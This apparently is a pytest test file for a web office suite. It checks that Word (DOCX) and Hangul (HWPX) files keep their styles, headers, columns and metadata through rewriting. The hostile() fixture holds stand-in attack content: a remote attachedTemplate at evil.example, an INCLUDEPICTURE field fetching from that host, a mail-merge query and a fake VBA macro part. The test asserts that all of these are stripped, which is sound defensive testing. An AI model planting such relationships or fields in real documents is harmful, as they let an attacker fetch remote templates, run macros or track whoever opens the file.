"""What a file has beside its text comes back in the same format; what could do harm never does."""

import io
import shutil
from dataclasses import replace
from datetime import UTC, datetime
from zipfile import ZipFile

import docx
import pytest
from docx.document import Document
from docx.enum.style import WD_STYLE_TYPE
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from hwpx import HwpxDocument
from hypothesis import HealthCheck, given, settings

from tests.support.png import png
from tests.weboffice.paper.papers import PAPERS, plain_headings, without_widths
from weboffice.formats.adapters.converter import (
    TARGETS,
    TO_DOCX,
)
from weboffice.formats.adapters.office import through_office
from weboffice.formats.model import Format
from weboffice.paper import box, setup
from weboffice.paper.docx import base as docx_base
from weboffice.paper.docx import onto as docx_onto
from weboffice.paper.docx import read as docx_read
from weboffice.paper.docx import write as docx_write
from weboffice.paper.features import Feature
from weboffice.paper.hwpx import base as hwpx_base
from weboffice.paper.hwpx import read as hwpx_read
from weboffice.paper.hwpx import write as hwpx_write
from weboffice.paper.markup import archive
from weboffice.paper.model import Form, Line, Page, Paper, Run
from weboffice.paper.safe import open_package

F = Feature
DATA = '<기록 xmlns="urn:onmaru:records"><번호>2026-17</번호></기록>'
PAPER = Paper(
    (
        Line((Run("추진 계획"),), Form.HEADING, 1),
        Line((Run("항목"),), Form.OUTLINE, 1),
        Line((Run("하나"),), Form.NUMBER, 1),
        Line((Run("본문"),)),
    )
)


def word() -> bytes:
    """By python-docx: styles of its own, two columns, a header with a picture, custom XML."""
    made = docx.Document()
    made.core_properties.author = "김하늘"
    made.core_properties.keywords = "안전, 점검"
    made.core_properties.created = datetime(2026, 1, 7, tzinfo=UTC)
    style = made.styles.add_style("기관 표준", WD_STYLE_TYPE.PARAGRAPH)
    style.font.name = "휴먼명조"
    made.add_heading("추진 계획", 1)
    made.add_paragraph("본문", style="기관 표준")
    section = made.sections[0]
    section.header.paragraphs[0].add_run("기관 머리말 ")
    section.header.paragraphs[0].add_run().add_picture(io.BytesIO(png(20, 10)))
    made.element.body.sectPr.find(qn("w:cols")).set(qn("w:num"), "2")
    item = Part(
        PackURI("/customXml/item9.xml"), "application/xml", DATA.encode(), made.part.package
    )
    made.part.relate_to(item, RELATIONSHIP_TYPE.CUSTOM_XML)
    made.settings.element.append(parse_xml(f"<w:hideSpellingErrors {nsdecls('w')}/>"))
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


WORD = word()
WORD_BASE, WORD_KEPT = docx_base.base_of(open_package(WORD))


def hangul() -> bytes:
    """By python-hwpx: two columns, a header, properties, and a master page that it cannot make."""
    made = HwpxDocument.new()
    made.add_paragraph("본문")
    made.page.set_columns(2)
    made.page.set_header(text="기관 머리말")
    package = open_package(made.to_bytes())
    parts = {name: package.read(name) for name in package.archive.namelist()}
    names = 'xmlns:hp="http://www.hancom.co.kr/hwpml/2011/paragraph"'
    parts["Contents/masterpage0.xml"] = (
        f'<hm:masterPage xmlns:hm="http://www.hancom.co.kr/hwpml/2011/master-page" {names} '
        'id="masterpage0" type="BOTH" pageNumber="0" pageDuplicate="0" pageFront="0">'
        '<hp:subList id=""><hp:p id="0" paraPrIDRef="0" styleIDRef="0"><hp:run charPrIDRef="0">'
        "<hp:t>바탕쪽 글</hp:t></hp:run></hp:p></hp:subList></hm:masterPage>"
    ).encode()
    parts["Contents/content.hpf"] = parts["Contents/content.hpf"].replace(
        b"</opf:manifest>",
        b'<opf:item id="masterpage0" href="Contents/masterpage0.xml" media-type="application/xml"/>'
        b"</opf:manifest>",
    )
    section = parts["Contents/section0.xml"].replace(b'masterPageCnt="0"', b'masterPageCnt="1"')
    parts["Contents/section0.xml"] = section.replace(
        b"</hp:secPr>", b'<hp:masterPage idRef="masterpage0"/></hp:secPr>', 1
    )
    parts["Scripts/headerScripts"] = b"function OnDocument_Open() {}"
    return archive(parts, frozenset({"mimetype"}))


HANGUL = hangul()
HANGUL_BASE, HANGUL_KEPT = hwpx_base.base_of(open_package(HANGUL))


def as_word(data: bytes) -> Document:
    return docx.Document(io.BytesIO(data))


@pytest.mark.slow
@settings(suppress_health_check=[HealthCheck.too_slow], max_examples=40)
@given(PAPERS)
def test_any_text_is_itself_on_what_was_kept(paper: Paper) -> None:
    """[FM8] Another file's styles and lists change no line of it, in either format."""
    found = docx_read.read(docx_onto.write(paper, WORD_BASE)).paper
    assert without_widths(found).blocks == without_widths(paper).blocks
    found = hwpx_read.read(hwpx_write.write(paper, HANGUL_BASE)).paper
    wanted = plain_headings(without_widths(paper))
    assert plain_headings(without_widths(found)).blocks == wanted.blocks


def test_word_s_parts_come_back() -> None:
    """[FM8] Read by python-docx, which made them."""
    assert WORD_KEPT[F.DATA] == 2  # python-docx' own template has one
    assert WORD_KEPT[F.COLUMNS] == 1
    assert {F.STYLES, F.THEME, F.SETTINGS, F.PROPERTIES, F.HEADER} <= set(WORD_KEPT)
    read = box.read("docx", WORD)
    again = as_word(docx_onto.write(replace(read.paper, title="새 제목"), read.base))
    assert again.core_properties.author == "김하늘"
    assert again.core_properties.keywords == "안전, 점검"
    assert again.core_properties.title == "새 제목"
    assert again.styles["기관 표준"].font.name == "휴먼명조"
    style = again.paragraphs[0].style
    assert style is not None
    assert style.name == "Heading 1"
    assert again.element.body.sectPr.find(qn("w:cols")).get(qn("w:num")) == "2"
    assert again.settings.element.find(qn("w:hideSpellingErrors")) is not None
    items = [p.blob.decode() for p in again.part.package.iter_parts() if "item" in p.partname]
    assert any("2026-17" in item for item in items)
    header = again.sections[0].header
    assert header.paragraphs[0].text.strip() == "기관 머리말"
    assert len(header.part.related_parts) == 1


def test_a_header_that_was_changed_is_the_new_one_and_the_old_is_nowhere() -> None:
    """[FM8] Nor is its picture."""
    read = box.read("docx", WORD)
    paper = replace(read.paper, header=(Line((Run("다른 머리말"),)),))
    made = docx_onto.write(paper, read.base)
    assert as_word(made).sections[0].header.paragraphs[0].text == "다른 머리말"
    with ZipFile(io.BytesIO(made)) as zipped:
        texts = [zipped.read(name).decode("utf-8", "replace") for name in zipped.namelist()]
        assert not any("media" in name for name in zipped.namelist())
    assert not any("기관 머리말" in text for text in texts)


def test_pages_that_the_editor_cannot_show_stay_until_somebody_sets_others() -> None:
    """[FM8] B5 is A4 in the editor."""
    read = box.read("docx", WORD)
    unchanged = replace(read.paper, page=docx_page(read.base))
    assert width(docx_onto.write(unchanged, read.base)) == width(WORD)
    turned = replace(read.paper, page=Page(297.0, 210.0))
    assert width(docx_onto.write(turned, read.base)) > width(WORD)


def width(data: bytes) -> int:
    return int(as_word(data).sections[0].page_width or 0)


def docx_page(base: bytes) -> Page | None:
    """As the editor has it."""
    return setup.simple(docx_read.read(base).paper)[0].page


def test_hangul_s_parts_come_back() -> None:
    """[FM8] Opened and judged by python-hwpx."""
    assert {F.STYLES, F.MASTER_PAGE, F.COLUMNS, F.HEADER} <= set(HANGUL_KEPT)
    read = box.read("hwpx", HANGUL)
    made = hwpx_write.write(
        replace(PAPER, header=read.paper.header, columns=read.paper.columns), read.base
    )
    again = HwpxDocument.open(io.BytesIO(made))
    assert not [one for one in again.validate().issues if one.severity == "error"]
    assert len(again.parts.master_pages) == 1
    package = open_package(made)
    [master] = [name for name in package.names if name.startswith("Contents/masterpage")]
    assert "바탕쪽 글" in package.read(master).decode()
    section = package.read("Contents/section0.xml").decode()
    assert 'colCount="2"' in section
    assert section.count("기관 머리말") >= 1
    assert not any(name.startswith("Scripts/") for name in package.names)
    other = hwpx_write.write(replace(PAPER, header=(Line((Run("다른 것"),)),)), read.base)
    section = open_package(other).read("Contents/section0.xml").decode()
    assert "기관 머리말" not in section
    assert "다른 것" in section


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE = (
    f'<Relationship Id="rIdX" Type="{OFFICE}/attachedTemplate" '
    'Target="http://evil.example/a.dotm" TargetMode="External"/>'
)
MACROS = (
    '<Relationship Id="rIdV" Target="vbaProject.bin" '
    'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
)
MERGE = (
    f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rIdX"/>'
    '<w:mailMerge><w:query w:val="SELECT evil"/></w:mailMerge>'
)
FETCH = "<w:p><w:r><w:instrText>INCLUDEPICTURE http://evil.example/p</w:instrText></w:r></w:p>"


def before(parts: dict[str, bytes], name: str, end: str, added: str) -> None:
    parts[name] = parts[name].replace(end.encode(), (added + end).encode())


def hostile() -> bytes:
    """A template, mail merge and pictures from elsewhere, macros, a field that fetches a file."""
    package = open_package(WORD)
    parts = {name: package.read(name) for name in package.archive.namelist()}
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros"
    parts["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{TEMPLATE}</Relationships>"
    ).encode()
    before(parts, "word/settings.xml", "</w:settings>", MERGE)
    before(parts, "word/_rels/document.xml.rels", "</Relationships>", MACROS)
    header = next(name for name in parts if name.startswith("word/header") and "rels" not in name)
    before(parts, header, "</w:hdr>", FETCH)
    return archive(parts)


def test_what_could_run_or_fetch_something_is_never_kept() -> None:
    """[FM2] [FM8]"""
    read = box.read("docx", hostile())
    assert read.losses[F.MACRO] == 1
    assert F.HEADER not in read.kept
    for data in (read.base, docx_onto.write(read.paper, read.base)):
        with ZipFile(io.BytesIO(data)) as zipped:
            whole = b"".join(name.encode() + zipped.read(name) for name in zipped.namelist())
        for word in (b"vba", b"evil", b"External", b"attachedTemplate", b"mailMerge", b"INCLUDE"):
            assert word not in whole


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is missing")
def test_libreoffice_s_files_keep_theirs_and_it_opens_ours() -> None:
    """[FM8]"""
    theirs = through_office("in.docx", docx_write.write(PAPER), TO_DOCX, lambda: True)
    read = box.read("docx", theirs)
    made = docx_onto.write(read.paper, read.base)
    assert box.read("docx", made).paper == read.paper
    assert "docProps/app.xml" in open_package(made).names
    assert through_office("in.docx", made, TARGETS[Format.PDF], lambda: True)[:5] == b"%PDF-"
    on_word = docx_onto.write(PAPER, WORD_BASE)
    assert through_office("in.docx", on_word, TARGETS[Format.PDF], lambda: True)[:5] == b"%PDF-"
